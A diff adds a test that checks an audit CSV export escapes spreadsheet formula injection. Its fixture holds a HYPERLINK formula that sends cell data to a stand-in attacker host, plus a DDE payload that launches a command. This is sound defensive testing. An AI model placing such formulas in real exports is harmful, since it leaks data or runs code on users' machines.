@@ -214,3 +214,19 @@ def test_retention_setting(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("WIZARD_AUDIT_RETENTION_DAYS", "0")
     with pytest.raises(ConfigError, match="WIZARD_AUDIT_RETENTION_DAYS"):
         load_settings()
+
+
+def test_csv_export_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
+    """Alert and user text reach the export: a cell that a spreadsheet would run as a formula
+    is written as text (leading apostrophe); the JSONL keeps the exact value."""
+    from bot.audit.export import write_export
+
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    records = [{"at": "2026-03-01T09:00:00+00:00", "kind": "followup", "actor": hostile,
+                "question": "+cmd|' /C calc'!A0", "thread": "C1:1.1", "hash": "ab"}]  # fmt: skip
+    paths = write_export(records, tmp_path, header={})
+    with paths["csv"].open(newline="") as handle:
+        row = next(csv.DictReader(handle))
+    assert row["actor"] == "'" + hostile
+    assert row["thread"] == "C1:1.1"
+    assert json.loads(paths["jsonl"].read_text())["actor"] == hostile
